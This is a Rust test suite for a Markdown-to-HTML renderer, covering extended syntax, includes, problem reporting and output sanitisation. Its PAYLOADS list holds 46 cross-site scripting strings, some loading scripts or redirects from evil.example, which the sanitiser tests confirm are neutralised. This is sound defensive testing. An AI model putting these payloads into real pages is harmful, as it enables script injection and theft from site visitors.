//! Markdown in, HTML out.

use super::{EntityLink, Include, Mention, Resolve, Target, render};
use crate::model::SafeUrl;

/// Resolves what a plain file would: absolute addresses by their scheme, `missing` to nothing.
struct Plain;

impl Resolve for Plain {
    fn link(&self, destination: &str) -> Target {
        if destination.contains("missing") {
            return Target::Broken("no such page".to_owned());
        }
        match SafeUrl::parse(destination) {
            Some(url) => Target::Href(url.as_str().to_owned()),
            None if destination.contains(':') => Target::Broken("scheme".to_owned()),
            None => Target::Href(destination.to_owned()),
        }
    }

    fn image(&self, destination: &str) -> Target {
        match self.link(destination) {
            Target::Href(href) if href.contains("://") => Target::Remote(href),
            other => other,
        }
    }
}

/// Files and entities that the cases below mention.
struct Rich;

impl Resolve for Rich {
    fn link(&self, destination: &str) -> Target {
        Plain.link(destination)
    }

    fn image(&self, destination: &str) -> Target {
        Plain.image(destination)
    }

    fn entity(&self, reference: &str) -> Mention {
        match reference {
            "payments" => Mention::Entity(EntityLink {
                href: "../p.html".to_owned(),
                text: "Payments".to_owned(),
                reference: "component:default/payments".to_owned(),
                kind: "Component".to_owned(),
                ..EntityLink::default()
            }),
            "gone" => Mention::Broken("no entity".to_owned()),
            _ => Mention::Text,
        }
    }

    fn includes(&self) -> &dyn Include {
        self
    }
}

impl Include for Rich {
    fn snippet(&self, path: &str) -> Result<String, String> {
        match path {
            "glossary.md" => Ok("*[CI]: Continuous Integration\n".to_owned()),
            "part.md" => Ok("## Part\n\ntext\n".to_owned()),
            _ => Err(format!("`{path}` does not exist")),
        }
    }

    fn appended(&self) -> Vec<String> {
        vec!["glossary.md".to_owned()]
    }
}

#[test]
fn marks_in_running_text() {
    for (text, expected) in [
        ("==a **b**== c=d ===", "<mark>a <strong>b</strong></mark> c=d ==="),
        ("^^a^^ x^2^ 2^10 and 2^20", "<ins>a</ins> x<sup>2</sup> 2^10 and 2^20"),
        ("H~2~O ~a b~ ~~c~~ (~$50) vs (~$60)", "H<sub>2</sub>O ~a b~ <del>c</del> (~$50) vs (~$60)"),
        ("{++a++}{--b--} {==c==}{>>d<<}", "<ins>a</ins><del>b</del> <mark>c</mark><span class=\"comment\">d</span>"),
        ("{~~a~>b~~}", "<del>a</del><ins>b</ins>"),
        (
            "++ctrl+alt+f5++ i++ ++nokey++",
            "<span class=\"keys\"><kbd>Ctrl</kbd>+<kbd>Alt</kbd>+<kbd>F5</kbd></span> i++ ++nokey++",
        ),
        ("\\==a== \\:tada: \\(c) a \\-\\-\\> b", "==a== :tada: (c) a --&gt; b"),
        ("==a <b>c== d</b>", "==a <b>c== d</b>"),
        ("*==a* b==", "<em>==a</em> b=="),
        (
            "https://a.b/?c==d==e https://a.b/~x/~y/",
            "<a href=\"https://a.b/?c==d==e\">https://a.b/?c==d==e</a> <a href=\"https://a.b/~x/~y/\">https://a.b/~x/~y/</a>",
        ),
        (
            "`#!py x = 1` `#!/bin/sh`",
            "<code>x <span class=\"o\">= </span><span class=\"n\">1</span></code> <code>#!/bin/sh</code>",
        ),
        (":material-check: a :octicons-repo-16:{ .red } :no-such: b", "✓ a  :no-such: b"),
        (
            "[[payments]] [[payments|**pay**]] [[gone]] [[x]] CI, CIs",
            "<a class=\"entity-link\" href=\"../p.html\" data-entity=\"component:default/payments\" data-kind=\"Component\">Payments</a> \
             [[payments|<strong>pay</strong>]] <span class=\"broken-link\">gone</span> [[x]] \
             <abbr title=\"Continuous Integration\">CI</abbr>, CIs",
        ),
    ] {
        let html = render(text, &Rich).html.as_str().to_owned();
        assert_eq!(html.trim().trim_start_matches("<p>").trim_end_matches("</p>"), expected, "{text}");
    }
}

#[test]
fn included_files_belong_to_the_page() {
    let text = "# A\n\n--8<-- \"part.md\"\n\n--8<-- \"none.md\"\n";
    let rendered = render(text, &Rich);
    assert_eq!(rendered.problems, [(5, 1, "`none.md` does not exist".to_owned())]);
    assert!(rendered.html.as_str().contains("<p>text</p>"));
    let names =
        |headings: &[crate::model::Heading]| headings.iter().map(|heading| heading.id.clone()).collect::<Vec<_>>();
    assert_eq!(names(&rendered.headings), ["a", "part"]);
    assert_eq!(names(&super::summarise(text, &Rich).headings), ["a", "part"]);
}

/// HTML with anchors of headings left out and white space folded, which most cases are not about.
fn html(text: &str) -> String {
    let html = render(text, &Plain).html.as_str().to_owned();
    let mut out = String::new();
    let mut rest = html.as_str();
    while let Some((before, after)) = rest.split_once("<a class=\"anchor\"") {
        out.push_str(before);
        rest = after.split_once("</a>").map_or("", |(_, after)| after);
    }
    out.push_str(rest);
    out.split('\n').map(str::trim).filter(|line| !line.is_empty()).collect::<Vec<_>>().join("\n")
}

#[test]
fn markdown_becomes_html() {
    for (text, expected) in [
        ("# A *b*", "<h1 id=\"a-b\">A <em>b</em></h1>"),
        ("# A {#x}\n\n# A { .y }", "<h1 id=\"x\">A</h1>\n<h1 id=\"a\">A</h1>"),
        (
            "!!! note \"A **b**\"\n    c\n\nd",
            "<div class=\"admonition note\">\n<p class=\"admonition-title\">A <strong>b</strong></p>\n<p>c</p>\n</div>\n<p>d</p>",
        ),
        ("???+ tip\n    c", "<details class=\"admonition tip\" open>\n<summary>Tip</summary>\n<p>c</p>\n</details>"),
        (
            "- a\n\n    !!! danger \"\"\n\n        b",
            "<ul>\n<li><p>a</p>\n<div class=\"admonition danger\">\n<p>b</p>\n</div>\n</li>\n</ul>",
        ),
        ("```\n!!! note\n    x\n```", "<div class=\"code\"><pre tabindex=\"0\"><code>!!! note\nx\n</code></pre></div>"),
        (
            "```\n=== \"A\"\n\n    ``` c\n    x\n    ```\n\n!!! note\n```",
            "<div class=\"code\"><pre tabindex=\"0\"><code>=== &quot;A&quot;\n``` c\nx\n```\n!!! note\n</code></pre></div>",
        ),
        (
            "<details>\n<summary>S</summary>\n\n**b**\n\n</details>",
            "<details>\n<summary>S</summary>\n<p><strong>b</strong></p>\n</details>",
        ),
        (
            "/// note | T\nx\n///\n\n::::tip\n:::info[I]\ny\n:::\n::::",
            "<div class=\"admonition note\">\n<p class=\"admonition-title\">T</p>\n<p>x</p>\n</div>\n\
             <div class=\"admonition tip\">\n<p class=\"admonition-title\">Tip</p>\n\
             <div class=\"admonition info\">\n<p class=\"admonition-title\">I</p>\n<p>y</p>\n</div>\n</div>",
        ),
        (
            "T *x*\n\n:   one\n    two\n\n:   three\n\nU\n: four\n:::{seealso} x",
            "<dl>\n<dt>T <em>x</em></dt>\n<dd><p>one\ntwo</p>\n</dd>\n<dd><p>three</p>\n</dd>\n<dt>U</dt>\n\
             <dd><p>four</p>\n</dd>\n</dl>\n<div class=\"admonition seealso\">\n<p class=\"admonition-title\">x</p>\n</div>",
        ),
        (
            "<div class=\"grid cards\" markdown>\n- **a**\n</div>\n*b*",
            "<div class=\"grid cards\">\n<ul>\n<li><strong>a</strong></li>\n</ul>\n</div>\n<p><em>b</em></p>",
        ),
    ] {
        assert_eq!(html(text), expected, "{text}");
    }
}

#[test]
fn tags_of_other_tools_become_html() {
    for (text, expected) in [
        (
            "import A from 'a';\n\n<Tabs>\n<TabItem label=\"One\">\n*a*\n</TabItem>\n</Tabs>\n{/* x */}",
            "<div class=\"tabs\"><input type=\"radio\" name=\"tabs:1\" id=\"tab:1:1\" checked><div class=\"tab-labels\">\
             <label for=\"tab:1:1\">One</label>\n</div>\n<div class=\"tab-bodies\"><div class=\"tab\">\n<p><em>a</em></p>\n</div>\n</div></div>",
        ),
        (
            "<Tabs>\n  <TabItem value=\"A b\">\n\n    :::note[N]\n\n    ```\n    x\n    y\n    ```\n  </TabItem>\n</Tabs>\n<Tabs>\n\
             <Tab title='C'>\nc\n</Tab>\n</Tabs>\nd",
            "<div class=\"tabs\"><input type=\"radio\" name=\"tabs:1\" id=\"tab:1:1\" checked><div class=\"tab-labels\">\
             <label for=\"tab:1:1\">A b</label>\n</div>\n<div class=\"tab-bodies\"><div class=\"tab\">\n\
             <div class=\"admonition note\">\n<p class=\"admonition-title\">N</p>\n\
             <div class=\"code\"><pre tabindex=\"0\"><code>x\ny\n</code></pre></div>\n</div>\n</div>\n</div></div>\n\
             <div class=\"tabs\"><input type=\"radio\" name=\"tabs:2\" id=\"tab:2:1\" checked><div class=\"tab-labels\">\
             <label for=\"tab:2:1\">C</label>\n</div>\n<div class=\"tab-bodies\"><div class=\"tab\">\n<p>c</p>\n</div>\n</div></div>\n<p>d</p>",
        ),
        (
            "//// tab | A\n\n*x*\n\n////\n\n//// tab | B\n\ny\n\n////\n\n![i](a b.png) [t](c d)",
            "<div class=\"tabs\"><input type=\"radio\" name=\"tabs:1\" id=\"tab:1:1\" checked>\
             <input type=\"radio\" name=\"tabs:1\" id=\"tab:1:2\"><div class=\"tab-labels\"><label for=\"tab:1:1\">A</label>\n\
             <label for=\"tab:1:2\">B</label>\n</div>\n<div class=\"tab-bodies\"><div class=\"tab\">\n<p><em>x</em></p>\n</div>\n\
             <div class=\"tab\">\n<p>y</p>\n</div>\n</div></div>\n<p><img src=\"a b.png\" alt=\"i\" loading=\"lazy\"> [t](c d)</p>",
        ),
        (
            "[[_TOC_]]\n\n# A",
            "<div class=\"toc\">\n<ul>\n<li><a href=\"#a\">A</a></li>\n</ul>\n</div>\n<h1 id=\"a\">A</h1>",
        ),
        ("<YYYY-MM:DD> <MAILTO:A@B.C>", "<p>&lt;YYYY-MM:DD&gt; <a href=\"mailto:A@B.C\">MAILTO:A@B.C</a></p>"),
        (
            "```console\n<font color=\"#fff\">a</font> <b>c</b> <d>\n```",
            "<div class=\"code\" data-lang=\"console\"><pre tabindex=\"0\"><code><span class=\"f\">a</span> c \
             <span class=\"o\">&lt;</span>d<span class=\"o\">&gt;</span>\n</code></pre></div>",
        ),
        ("##A --> :tada:", "<h2 id=\"a\">A → 🎉</h2>"),
        ("![a](https://x.y/b.png)", "<p><a class=\"remote-image\" href=\"https://x.y/b.png\">a</a></p>"),
        ("[![a](https://x.y/b.png)](https://c.d)", "<p><a href=\"https://c.d/\">a</a></p>"),
    ] {
        assert_eq!(html(text), expected, "{text}");
    }
}

#[test]
fn annotations_lead_to_their_list() {
    for (text, expected) in [
        (
            "a (1) [b (1)](c) (2\n{ .annotate }\n\n1.  d (1)\n    { .annotate }\n\n    1. e\n2.  f",
            "<p>a <a class=\"annotation\" href=\"#annotation:1:1\">(1)</a> <a href=\"c\">b (1)</a> (2</p>\n\
             <ol class=\"annotations\">\n<li id=\"annotation:1:1\"><p>d <a class=\"annotation\" href=\"#annotation:2:1\">(1)</a></p>\n\
             <ol class=\"annotations\">\n<li id=\"annotation:2:1\">e</li>\n</ol>\n</li>\n<li id=\"annotation:1:2\"><p>f</p>\n</li>\n</ol>",
        ),
        (
            "!!! note annotate \"T (1)\"\n    c (2)\n\n1. d",
            "<div class=\"admonition note\">\n<p class=\"admonition-title\">T <a class=\"annotation\" href=\"#annotation:1:1\">(1)</a></p>\n\
             <p>c <a class=\"annotation\" href=\"#annotation:1:2\">(2)</a></p>\n</div>\n\
             <ol class=\"annotations\">\n<li id=\"annotation:1:1\">d</li>\n</ol>",
        ),
        ("a (1)\n{ .annotate }\n\nb", "<p>a (1)</p>\n<p>b</p>"),
        (
            "``` yaml\na: 1 # (1)!\n```\n\n1. one\n    1. two\n2. three",
            "<div class=\"code\" data-lang=\"yaml\"><pre tabindex=\"0\"><code><span class=\"y\">a</span>: <span class=\"n\">1</span>\
             <span class=\"c\"> # <a class=\"annotation\" href=\"#annotation:1:1\">(1)</a></span>\n</code></pre></div>\n\
             <ol class=\"annotations\">\n<li id=\"annotation:1:1\">one<ol>\n<li>two</li>\n</ol>\n</li>\n\
             <li id=\"annotation:1:2\">three</li>\n</ol>",
        ),
    ] {
        assert_eq!(html(text), expected, "{text}");
    }
}

#[test]
fn directives_comments_and_endings_are_read() {
    for (text, expected) in [
        (
            "````{note} A\n:class: b\n\n```{r}\nx\n```\n````\n```{tip}\ny\n```",
            "<div class=\"admonition note\">\n<p class=\"admonition-title\">A</p>\n\
             <div class=\"code\"><pre tabindex=\"0\"><code>x\n</code></pre></div>\n</div>\n\
             <div class=\"admonition tip\">\n<p class=\"admonition-title\">Tip</p>\n<p>y</p>\n</div>",
        ),
        (
            "<!-- a --> *b* <!-- c -->\n\nx[^1]\n\n[^1]:\n  y\n\nz\\(s\\)",
            "<p><em>b</em> </p>\n<p>x<sup class=\"footnote-ref\" id=\"fnref:1\"><a href=\"#fn:1\">1</a></sup></p>\n<p>z(s)</p>\n\
             <section class=\"footnotes\">\n<hr>\n<ol>\n<li id=\"fn:1\">\n<p>y\u{a0}<a class=\"footnote-backref\" \
             href=\"#fnref:1\" aria-label=\"Back to the text\">↩</a></p>\n</li>\n</ol>\n</section>",
        ),
    ] {
        assert_eq!(html(text), expected, "{text}");
    }
}

#[test]
fn problems_have_places() {
    let text =
        "---\ntitle: T\n---\na [x](missing)\n\n- b\n\n    !!! note\n        c [y](missing)\n\n<script>x</script>\n";
    let places: Vec<(u32, u32)> =
        render(text, &Plain).problems.iter().map(|(line, column, _)| (*line, *column)).collect();
    assert_eq!(places, [(4, 3), (9, 11), (11, 1)]);
}

/// Ways to smuggle a script into a page.
const PAYLOADS: [&str; 46] = [
    "&#xE006;1&#xE007; &#xE006;0&#xE007; \\&#xE010;",
    "++\"<script>alert(1)</script>\"++ x\n\n*[x]: \" onclick=alert(1)",
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror = 'alert(1)' >",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=alert(1) y=\"](a.png \"t\\\" onload=alert(1)\")",
    "[x](a.md \"\\\" onclick=alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "# h {#x\" onclick=alert(1)}",
    "# h {: onclick=alert(1) #\"><script>alert(1)</script>}",
    "```\"><script>alert(1)</script>\nx\n```",
    "```py title=\"<img src=x onerror=alert(1)>\"\nx\n```",
    "!!! note \"<script>alert(1)</script>\"\n    x",
    "!!! note\\\" onclick=alert(1) \"x\"\n    x",
    "=== \"<img src=x onerror=alert(1)>\"\n    x",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=x.swf></object><embed src=x>",
    "<form action=//evil.example><input name=x><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import url(//evil.example)</style><p style=\"background:url(//evil.example)\">x</p>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example>",
    "<div title=\"\n\n**x**\n\n\"><script>alert(1)</script></div>",
    "<div id=\"&#xE002;0&#xE003;\">\n\n**x** \"><img src=x onerror=alert(1)>\n\n</div>",
    "<p>&#xE002;0&#xE003;&#xE002;0&#xE003;\n\n- x\n\n</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)>\n\nx\n\n<summary onclick=alert(1)>y",
];

/// Every element that a document may become.
const ALLOWED: &str = " a b blockquote br code dd del details div dl dt em h1 h2 hr i img input kbd label li ol p pre s section span strong sub summary sup table tbody td \
                      th thead tr u ul video h3 h4 h5 h6 tfoot ins mark q ruby rt rp small abbr caption figure figcaption ";

#[test]
fn nothing_runs() {
    let frames = ["{}", "- {}", "> {}", "# {}", "a {} b", "<div>\n\n{}\n\n</div>", "<details><summary>{}\n\nx"];
    for payload in PAYLOADS {
        for frame in frames {
            let text = frame.replace("{}", payload);
            let html = render(&text, &Plain).html.as_str().to_owned();
            let mut open: Vec<&str> = Vec::new();
            for tag in super::tags::tags(&html) {
                assert!(ALLOWED.contains(&format!(" {} ", tag.name)), "{text}\n{html}");
                if tag.closing {
                    assert_eq!(open.pop(), Some(tag.name), "{text}\n{html}");
                } else if tag.opens() {
                    open.push(tag.name);
                }
                harmless(&tag, &text);
            }
            assert!(open.is_empty(), "{text}\n{html}");
        }
    }
}

fn harmless(tag: &super::tags::Tag<'_>, text: &str) {
    for (name, value) in tag.pairs() {
        assert!(!name.starts_with("on") && !matches!(name, "style" | "srcdoc" | "action"), "{text}\n{tag:?}");
        let address = matches!(name, "href" | "src");
        assert!(!address || !value.to_lowercase().contains("script:"), "{text}\n{tag:?}");
        assert!(name != "src" || !value.contains("//"), "{text}\n{tag:?}");
    }
}

#[test]
fn one_script_is_one_problem() {
    let rendered = render("a <script>alert(1)</script> b", &Plain);
    assert_eq!(rendered.problems, [(1, 3, "raw HTML element <script> is not published".to_owned())]);
    assert_eq!(rendered.html.as_str(), "<p>a  b</p>\n");
}
